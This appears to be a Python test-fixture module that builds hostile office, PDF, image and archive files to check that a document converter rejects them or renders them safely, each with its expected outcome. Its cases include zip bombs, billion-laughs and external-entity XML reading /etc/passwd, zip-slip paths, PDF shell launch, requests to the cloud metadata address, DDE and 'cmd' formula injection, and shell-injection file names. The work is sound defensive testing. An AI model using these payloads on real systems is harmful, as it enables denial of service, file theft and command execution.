"""Hostile documents of our own making, each with the outcome that the converter owes: a reason, or a number of pages.

`{secret}` is the path of a file that no document may read, `{address}` a server that none may reach.
"""

from __future__ import annotations

import hashlib
import io
import struct
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from random import Random
from typing import Final

from PIL import Image

from emulator_tests.convert.documents import (
    NAMESPACES,
    OPEN_DOCUMENT,
    XML,
    Link,
    PdfPage,
    Slide,
    archive,
    cell,
    compound,
    docx,
    flate,
    linked_picture,
    open_document,
    open_picture,
    paragraph,
    pdf,
    pdf_of,
    picture,
    png_header,
    pptx,
    relationships,
    stream,
    word_picture,
    xlsx,
)

MIB: Final = 1024 * 1024
MACRO_TYPE: Final = "application/vnd.ms-word.document.macroEnabled.main+xml"


@dataclass(frozen=True)
class Surroundings:
    """
    What a document may try to reach.

    Args:
        secret_picture: The path of a picture outside, all magenta.
        secret_text: The path of a text of many pages outside.
        address: Where a server counts who comes.
    """

    secret_picture: str
    secret_text: str
    address: str


@dataclass(frozen=True)
class Hostile:
    """
    Args:
        kind: What it is said to be.
        content: Its bytes.
        outcome: The reason, or the number of pages.
        blank: How many of the pages are marked blank.
    """

    kind: str
    content: Callable[[Surroundings], bytes]
    outcome: str | int
    blank: int = 0


def fixed(kind: str, content: bytes, outcome: str | int, *, blank: int = 0) -> Hostile:
    return Hostile(kind, lambda _: content, outcome, blank)


def lazy(kind: str, content: Callable[[], bytes], outcome: str | int, *, blank: int = 0) -> Hostile:
    return Hostile(kind, lambda _: content(), outcome, blank)


# What a file is said to be, and is not.

HTML: Final = b"<!DOCTYPE html><html><script>alert(1)</script></html>"
SVG: Final = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
EXE: Final = b"MZ\x90\x00" + bytes(60) + b"PE\0\0" + bytes(400)
ONE_PAGE: Final = pdf([PdfPage()])
FLAT: Final = (
    f"{XML}<office:document {OPEN_DOCUMENT} office:mimetype='application/vnd.oasis.opendocument.text'><office:body>"
    f"<office:text>{open_picture('file:///etc/passwd')}</office:text></office:body></office:document>"
).encode()

DISGUISED: Final = {
    "empty file": fixed("pdf", b"", "EMPTY"),
    "pdf as docx": fixed("docx", ONE_PAGE, "TYPE_MISMATCH"),
    "docx as pptx": fixed("pptx", docx(paragraph("x")), "TYPE_MISMATCH"),
    "rtf as doc": fixed("doc", rb"{\rtf1 x}", "TYPE_MISMATCH"),
    "html as pptx": fixed("pptx", HTML, "TYPE_MISMATCH"),
    "html as pdf": fixed("pdf", HTML, "TYPE_MISMATCH"),
    "html as doc": fixed("doc", HTML, "TYPE_MISMATCH"),
    "html as txt is text": fixed("txt", HTML, 1),
    "exe as pptx": fixed("pptx", EXE, "TYPE_MISMATCH"),
    "exe as txt": fixed("txt", EXE, "TYPE_MISMATCH"),
    "script as txt": fixed("txt", b"#!/bin/sh\nrm -rf /\n", "TYPE_MISMATCH"),
    "zeros as txt": fixed("txt", bytes(5000), "TYPE_MISMATCH"),
    "svg as png": fixed("png", SVG, "TYPE_MISMATCH"),
    "eps as pdf": fixed("pdf", b"%!PS-Adobe-3.0 EPSF-3.0\n(/etc/passwd) (r) file\n", "TYPE_MISMATCH"),
    "gif as png": fixed("png", picture("GIF", (9, 9)), "TYPE_MISMATCH"),
    "png as jpeg": fixed("jpeg", picture("PNG", (9, 9)), "TYPE_MISMATCH"),
    "flat odf as odt": fixed("odt", FLAT, "TYPE_MISMATCH"),
    "plain zip as docx": fixed("docx", archive({"a.txt": "x"}), "TYPE_MISMATCH"),
    "docx with pdf inside as pdf": fixed(
        "pdf",
        archive({"mimetype": "%PDF-1.7 x", "[Content_Types].xml": "x", "word/document.xml": "x"}),
        "TYPE_MISMATCH",
    ),
    "pdf with a zip behind it as docx": fixed("docx", ONE_PAGE + docx(paragraph("x")), "TYPE_MISMATCH"),
    "pdf with a zip behind it": fixed("pdf", ONE_PAGE + docx(paragraph("x")), 1),
    "drawing as odp": fixed("odp", open_document("graphics", ""), "UNSUPPORTED"),
    "visio as doc": fixed("doc", compound({"VisioDocument": b"x"}), "UNSUPPORTED"),
    "keynote of nothing": fixed("key", archive({"Index/Document.iwa": "x", "Index/Slide-1.iwa": "x"}), "BROKEN"),
}


# What is protected by a password.

PADDING: Final = bytes.fromhex("28BF4E5E4E758A4164004E56FFFA01082E2E00B6D0683E802F0CA9FE6453697A")


def rc4(key: bytes, content: bytes) -> bytes:
    state = list(range(256))
    swap = 0
    for at in range(256):
        swap = (swap + state[at] + key[at % len(key)]) % 256
        state[at], state[swap] = state[swap], state[at]
    out = bytearray()
    first = second = 0
    for byte in content:
        first = (first + 1) % 256
        second = (second + state[first]) % 256
        state[first], state[second] = state[second], state[first]
        out.append(byte ^ state[(state[first] + state[second]) % 256])
    return bytes(out)


def encrypted_pdf(password: bytes) -> bytes:
    """Return a PDF in 40-bit RC4, with an empty page."""
    user = (password + PADDING)[:32]
    owner_key = hashlib.md5(b"owner".ljust(32, b"\0")).digest()[:5]
    owner = rc4(owner_key, user)
    permissions = struct.pack("<i", -64)
    key = hashlib.md5(user + owner + permissions + b"0123456789abcdef").digest()[:5]
    entries = f"/Filter/Standard/V 1/R 2/P -64/O<{owner.hex()}>/U<{rc4(key, PADDING).hex()}>"
    return pdf(
        [PdfPage(b"")],
        extra=[f"<<{entries}>>".encode()],
        trailer=f"/Encrypt 4 0 R/ID[<{b'0123456789abcdef'.hex()}><{b'0123456789abcdef'.hex()}>]",
    )


def locked_zip() -> bytes:
    content = bytearray(docx(paragraph("x")))
    at = content.find(b"PK\x01\x02")
    while at >= 0:
        content[at + 8] |= 1
        at = content.find(b"PK\x01\x02", at + 1)
    return bytes(content)


PROTECTED: Final = {
    "pdf with a password": fixed("pdf", encrypted_pdf(b"secret"), "ENCRYPTED"),
    "pdf with an owner's password only": fixed("pdf", encrypted_pdf(b""), 1),
    "docx with a password": fixed("docx", compound({"EncryptionInfo": b"x", "EncryptedPackage": b"x"}), "ENCRYPTED"),
    "pptx with a password": fixed("pptx", compound({"EncryptionInfo": b"x", "EncryptedPackage": b"x"}), "ENCRYPTED"),
    "doc with a password": fixed("doc", compound({"WordDocument": bytes(11) + b"\x01"}), "ENCRYPTED"),
    "xls with a password": fixed(
        "xls", compound({"Workbook": struct.pack("<HHIHH", 0x809, 4, 0, 0x2F, 2)}), "ENCRYPTED"
    ),
    "ppt with a password": fixed("ppt", compound({"PowerPoint Document": b"x", "EncryptedSummary": b"x"}), "ENCRYPTED"),
    "odt with a password": fixed("odt", open_document("text", "", manifest="<manifest:encryption-data/>"), "ENCRYPTED"),
    "zip with a password as docx": fixed("docx", locked_zip(), "ENCRYPTED"),
}


# What is too many or too large.


def bomb() -> bytes:
    return archive({"[Content_Types].xml": "x", "word/document.xml": bytes(100 * MIB)})


def lying(content: bytes) -> bytes:
    """Return an archive whose directory says that each part has one byte."""
    changed = bytearray(content)
    at = changed.find(b"PK\x01\x02")
    while at >= 0:
        struct.pack_into("<I", changed, at + 24, 1)
        at = changed.find(b"PK\x01\x02", at + 1)
    return bytes(changed)


def entries(count: int, *, said: int) -> bytes:
    """Return an archive of so many entries, of which the end tells another number."""
    entry = struct.pack("<4sHHHHHHIIIHHHHHII", b"PK\x01\x02", 20, 20, 0, 0, 0, 0, 0, 0, 0, 1, 0, 0, 0, 0, 0, 0) + b"a"
    directory = entry * count
    head = b"PK\x03\x04" + bytes(26)
    end = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, said, said, len(directory), len(head), 0)
    return head + directory + end


def overlapping() -> bytes:
    """Return an archive of many entries that share the same packed bytes."""
    content = archive({"word/document.xml": "x", "[Content_Types].xml": Random(1).randbytes(MIB)})
    at = content.rfind(b"PK\x01\x02")
    end = content.rfind(b"PK\x05\x06")
    start = content.find(b"PK\x01\x02")
    directory = content[start:end] + content[at:end] * 100
    return (
        content[:start] + directory + struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, 102, 102, len(directory), start, 0)
    )


def zip64(offset: int) -> bytes:
    """Return an archive whose large end stands somewhere else."""
    locator = struct.pack("<4sIQI", b"PK\x06\x07", 0, offset, 1)
    return b"PK\x03\x04" + bytes(26) + locator + struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, 1, 1, 46, 0, 0)


def many_rows() -> bytes:
    row = (
        '<table:table-row table:number-rows-repeated="60000"><table:table-cell office:value-type="string">'
        "<text:p>x</text:p></table:table-cell></table:table-row>"
    )
    return open_document("spreadsheet", f'<table:table table:name="S">{row}</table:table>')


def content_bomb() -> bytes:
    page = flate(b"0 0 m 1 1 l S " * 200_000)
    return pdf_of(
        [
            b"<</Type/Catalog/Pages 2 0 R>>",
            b"<</Type/Pages/Count 1/Kids[3 0 R]>>",
            b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 100 100]/Contents 4 0 R>>",
            page,
        ]
    )


def image_page(image: bytes, *, more: tuple[bytes, ...] = ()) -> bytes:
    resources = "/Resources<</XObject<</I 4 0 R>>>>"
    return pdf([PdfPage(b"720 0 0 405 0 0 cm /I Do", entries=resources)], extra=[image, *more])


def flood_in_pdf() -> bytes:
    entries = "/Subtype/Image/Width 40000/Height 40000/ColorSpace/DeviceRGB/BitsPerComponent 8"
    return image_page(flate(bytes(8 * MIB), entries))


def jbig2_flood() -> bytes:
    page = struct.pack(">IBBBI", 0, 48, 0, 1, 19) + struct.pack(">IIIIBH", 65535, 65535, 0, 0, 0, 0)
    entries = "/Subtype/Image/Width 65535/Height 65535/ColorSpace/DeviceGray/BitsPerComponent 1/Filter/JBIG2Decode"
    return image_page(stream(page, entries))


def jpeg_header(side: int) -> bytes:
    content = bytearray(picture("JPEG", (16, 16)))
    at = content.find(b"\xff\xc0")
    struct.pack_into(">HH", content, at + 5, side, side)
    return bytes(content)


LARGE: Final = {
    "pdf without pages": fixed("pdf", pdf([]), "EMPTY"),
    "pptx whose slides are all hidden": fixed("pptx", pptx([Slide("x", is_hidden=True)] * 5), "EMPTY"),
    "pdf of 201 pages": lazy("pdf", lambda: pdf([PdfPage(b"")] * 201), "TOO_MANY_PAGES"),
    "pdf of 10000 pages": lazy("pdf", lambda: pdf([PdfPage(b"")] * 10_000), "TOO_MANY_PAGES"),
    "pptx of 201 slides": lazy("pptx", lambda: pptx([Slide("")] * 201), "TOO_MANY_PAGES"),
    "ods of 60000 rows": lazy("ods", many_rows, "TOO_MANY_PAGES"),
    "zip bomb as docx": lazy("docx", bomb, "TOO_LARGE"),
    "zip bomb that lies about its size": lazy("docx", lambda: lying(bomb()), "BROKEN"),
    "zip of a million entries": lazy("docx", lambda: entries(1_000_000, said=0xFFFF), "TOO_LARGE"),
    "zip of more entries than it says": lazy("docx", lambda: entries(100_000, said=1), "TOO_LARGE"),
    "zip of overlapping entries": lazy("docx", overlapping, "TOO_LARGE"),
    "zip64 that ends elsewhere": fixed("docx", zip64(2**60), "BROKEN"),
    "zip64 that ends in itself": fixed("docx", zip64(30), "BROKEN"),
    "png of 900 million pixels": fixed("png", png_header(30_000, 30_000), "TOO_LARGE"),
    "png of 2^62 pixels": fixed("png", png_header(2**31 - 1, 2**31 - 1), "TOO_LARGE"),
    "jpeg of 4 billion pixels": lazy("jpeg", lambda: jpeg_header(65_500), "TOO_LARGE"),
    "pdf with a picture of 5 GB": lazy("pdf", flood_in_pdf, 1),
    "pdf with a JBIG2 picture of 4 billion pixels": lazy("pdf", jbig2_flood, 1),
    "pdf with millions of lines": lazy("pdf", content_bomb, 1),
}


# What is broken, or turns in circles.


def prolog(declarations: str) -> bytes:
    return docx(paragraph("&x;"), prolog=f"<!DOCTYPE w:document [{declarations}]>")


LAUGHS: Final = '<!ENTITY a "ha">' + "".join(
    f'<!ENTITY {chr(98 + level)} "{f"&{chr(97 + level)};" * 10}">' for level in range(9)
)


def loop_of_forms() -> bytes:
    form = stream(b"/X Do", "/Subtype/Form/BBox[0 0 99 99]/Resources<</XObject<</X 4 0 R>>>>")
    return pdf([PdfPage(b"/X Do", entries="/Resources<</XObject<</X 4 0 R>>>>")], extra=[form])


def loop_of_pages() -> bytes:
    return pdf_of([b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Count 3/Kids[2 0 R 2 0 R 2 0 R]/Parent 2 0 R>>"])


def loop_of_tables() -> bytes:
    table = pdf([PdfPage()]).rfind(b"xref\n0")
    return pdf([PdfPage()], trailer=f"/Prev {table}")


def loop_of_compound() -> bytes:
    content = bytearray(compound({"WordDocument": b"x"}))
    # The directory's second sector is followed by its first one.
    struct.pack_into("<I", content, 512 + 8, 1)
    return bytes(content)


BROKEN: Final = {
    "pdf cut in the middle": fixed("pdf", ONE_PAGE[:200], "BROKEN"),
    "pdf of a header alone": fixed("pdf", b"%PDF-1.7\n", "BROKEN"),
    "pdf with a wrong table": fixed("pdf", ONE_PAGE.replace(b"xref\n0", b"xxxx\n9"), 1),
    "pdf that counts pages it has not": fixed("pdf", ONE_PAGE.replace(b"/Count 1", b"/Count 3"), 3, blank=2),
    "pdf of nested lists": fixed("pdf", ONE_PAGE.replace(b"/Contents", b"/Z" + b"[" * 100_000 + b"/Contents"), 1),
    "pdf whose form draws itself": fixed("pdf", loop_of_forms(), 1),
    "pdf whose pages are their own parent": fixed("pdf", loop_of_pages(), "BROKEN", blank=3),
    "pdf whose table is its own predecessor": fixed("pdf", loop_of_tables(), 1),
    "docx cut in the middle": fixed("docx", docx(paragraph("x"))[:300], "BROKEN"),
    "docx of garbage": fixed("docx", archive({"[Content_Types].xml": "x", "word/document.xml": "x"}), "BROKEN"),
    "docx of external entities": fixed("docx", prolog('<!ENTITY x SYSTEM "file:///etc/passwd">'), "BROKEN"),
    "docx of a billion laughs": fixed("docx", prolog(LAUGHS + '<!ENTITY x "&j;">'), "BROKEN"),
    "compound file whose directory is a circle": fixed("doc", loop_of_compound(), "BROKEN"),
    "compound file cut after its header": fixed("doc", compound({"WordDocument": b"x"})[:600], "BROKEN"),
    "png cut in the middle": fixed("png", picture("PNG", (400, 400))[:300], "BROKEN"),
    "png with wrong sums": fixed("png", picture("PNG", (9, 9)).replace(b"IDAT", b"IDAT\0"), "BROKEN"),
    "jpeg cut in the middle": fixed("jpeg", picture("JPEG", (400, 400))[:700], "BROKEN"),
    "rtf of nested groups": fixed("rtf", rb"{\rtf1 " + b"{" * 100_000 + b"x", "BROKEN"),
    "pptx without slides": fixed("pptx", pptx([]), "EMPTY"),
    "odp without pages": fixed("odp", open_document("presentation", ""), 1),
}


# Pages of absurd sizes: each is a picture within bounds.

SIZES: Final[dict[str, tuple[PdfPage, tuple[int, int]]]] = {
    "the largest that PDF allows": (PdfPage(b"", 14400, 14400), (1920, 1920)),
    "larger": (PdfPage(b"", 1_000_000, 500_000), (1920, 960)),
    "an A0 poster": (PdfPage(width=2384, height=3370), (1359, 1920)),
    "a line": (PdfPage(b"", 14400, 1), (1920, 1)),
    "nothing": (PdfPage(b"", 0, 0), (1484, 1920)),
    "less than nothing": (PdfPage(b"", -720, -405), (1920, 1080)),
    "no numbers": (PdfPage(b"", "/x", "(y)"), (1484, 1920)),
    "more than a number holds": (PdfPage(b"", "9" * 60, "9" * 60), (1484, 1920)),
}


# What wants to act, to read and to send.


def slide_with(link: Link) -> bytes:
    return pptx([Slide("x", extra=linked_picture('r:link="rId1"'), links=[link])])


def outside(target: str) -> Link:
    return Link("rId1", "image", target, is_external=True)


def section(href: str) -> bytes:
    return open_document(
        "text",
        f'<text:section text:name="s"><text:section-source xlink:href="{href}" text:filter-name="Text"/>'
        "<text:p>x</text:p></text:section>",
    )


def event(language: str, href: str) -> bytes:
    listener = (
        f'<office:scripts><office:event-listeners><script:event-listener script:language="{language}" '
        f'script:event-name="office:load-finished" xlink:href="{href}"/></office:event-listeners></office:scripts>'
    )
    return open_document("text", "<text:p>x</text:p>", scripts=listener)


def macro_docx() -> bytes:
    return docx(
        paragraph("x"),
        links=[Link("rId9", "http://schemas.microsoft.com/office/2006/relationships/vbaProject", "vbaProject.bin")],
        parts={"word/vbaProject.bin": compound({"VBA": b"Sub AutoOpen()"})},
        main_type=MACRO_TYPE,
    )


def remote_template(address: str) -> bytes:
    return docx(
        paragraph("x"),
        links=[Link("rId9", "settings", "settings.xml")],
        parts={
            "word/settings.xml": f'{XML}<w:settings {NAMESPACES}><w:attachedTemplate r:id="rId1"/></w:settings>',
            "word/_rels/settings.xml.rels": relationships(
                Link("rId1", "attachedTemplate", f"{address}/template.dotm", is_external=True)
            ),
        },
    )


def object_docx() -> bytes:
    return docx(
        paragraph("x") + '<w:p><w:r><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" '
        'Type="Embed" ProgID="Package" r:id="rId1"/></w:object></w:r></w:p>',
        links=[Link("rId1", "oleObject", "embeddings/oleObject1.bin")],
        parts={"word/embeddings/oleObject1.bin": compound({"\x01Ole10Native": EXE})},
    )


def formula(text: str) -> bytes:
    return xlsx(f'<c r="A1"><f>{text}</f><v>0</v></c>')


def slipping() -> bytes:
    content = io.BytesIO(docx(paragraph("x")))
    with zipfile.ZipFile(content, "a") as opened:
        opened.writestr("../../../../tmp/slipped", "x")
        opened.writestr("/tmp/slipped", "x")
        link = zipfile.ZipInfo("word/media/link")
        link.external_attr = 0o120777 << 16
        opened.writestr(link, "/etc/passwd")
    return content.getvalue()


def animated_png() -> bytes:
    file = io.BytesIO()
    frames = [Image.new("RGB", (9, 9), colour) for colour in ("red", "green", "blue")]
    frames[0].save(file, "PNG", save_all=True, append_images=frames[1:])
    return file.getvalue()


ACTIVE: Final = {
    "pdf with script and launch": fixed(
        "pdf",
        pdf(
            [PdfPage(entries="/AA<</O<</S/Launch/F(/bin/sh)>>>>")],
            catalog="/OpenAction<</S/JavaScript/JS(app.launchURL\\('http://127.0.0.1'\\))>>",
        ),
        1,
    ),
    "pdf with links to files": Hostile(
        "pdf",
        lambda there: image_page(
            f"<</Subtype/Image/Width 9/Height 9/BitsPerComponent 8/ColorSpace/DeviceRGB/Length 0"
            f"/F({there.secret_picture})>>stream\n\nendstream".encode()
        ),
        1,
    ),
    "docx with a picture from a server": Hostile(
        "docx", lambda there: docx(word_picture('r:link="rId1"'), links=[outside(f"{there.address}/a.png")]), 1
    ),
    "docx with a picture from the machine": Hostile(
        "docx", lambda there: docx(word_picture('r:link="rId1"'), links=[outside(f"file://{there.secret_picture}")]), 1
    ),
    "docx with a picture from the metadata server": fixed(
        "docx", docx(word_picture('r:link="rId1"'), links=[outside("http://169.254.169.254/latest/meta-data")]), 1
    ),
    "docx with a picture from a share": fixed(
        "docx", docx(word_picture('r:link="rId1"'), links=[outside("file://127.0.0.1/share/a.png")]), 1
    ),
    "pptx with a picture from a server": Hostile(
        "pptx", lambda there: slide_with(outside(f"{there.address}/b.png")), 1
    ),
    "pptx with a picture from the machine": Hostile(
        "pptx", lambda there: slide_with(outside(f"file://{there.secret_picture}")), 1
    ),
    "odt with a picture from a server": Hostile(
        "odt", lambda there: open_document("text", open_picture(f"{there.address}/c.png")), 1
    ),
    "odt with a picture from the machine": Hostile(
        "odt", lambda there: open_document("text", open_picture(f"file://{there.secret_picture}")), 1
    ),
    "odt with a text from the machine": Hostile("odt", lambda there: section(f"file://{there.secret_text}"), 1),
    "rtf with a picture from a server": Hostile(
        "rtf",
        lambda there: (
            rb"{\rtf1 {\field{\*\fldinst INCLUDEPICTURE "
            + f'"{there.address}/d.png"'.encode()
            + rb" \\d}{\fldrslt x}}}"
        ),
        1,
    ),
    "rtf with a text from the machine": Hostile(
        "rtf",
        lambda there: (
            rb"{\rtf1 {\field{\*\fldinst INCLUDETEXT " + f'"{there.secret_text}"'.encode() + rb"}{\fldrslt x}}}"
        ),
        1,
    ),
    "docx with a remote template": Hostile("docx", lambda there: remote_template(there.address), 1),
    "docx with VBA": fixed("docx", macro_docx(), 1),
    "docx with a program as object": fixed("docx", object_docx(), 1),
    "docx with parts outside": fixed("docx", slipping(), 1),
    "odt with a Python macro": fixed(
        "odt", event("ooo:script", "vnd.sun.star.script:../../../../usr/lib/python3/x.py$f?language=Python"), 1
    ),
    "odt with a Basic macro": fixed(
        "odt", event("ooo:script", "vnd.sun.star.script:Standard.M.f?language=Basic&amp;location=document"), 1
    ),
    "odt with an svg that has a script": fixed(
        "odt", open_document("text", open_picture("Pictures/a.svg"), parts={"Pictures/a.svg": SVG}), 1
    ),
    "xlsx with WEBSERVICE": Hostile("xlsx", lambda there: formula(f'_xlfn.WEBSERVICE("{there.address}/e")'), 1),
    "xlsx with DDE": fixed("xlsx", formula("DDE(&quot;cmd&quot;,&quot;/c calc&quot;,&quot;x&quot;)"), 1),
    "xlsx with a formula like a command": fixed("xlsx", xlsx(cell("=cmd|'/c calc'!A1")), 1),
    "png that moves": lazy("png", animated_png, 1),
}

CASES: Final = {**DISGUISED, **PROTECTED, **LARGE, **BROKEN, **ACTIVE}

NAMES: Final = (
    "-env:UserInstallation=file:",
    "$(touch slipped)",
    "`touch slipped`; touch slipped",
    "deck\u202efdp.exe",
    "deck.pdf.exe",
    "two\nlines",
    "--help",
    "a" * 250,
)
"""Names that a shell, a tool or a person could take for something else."""
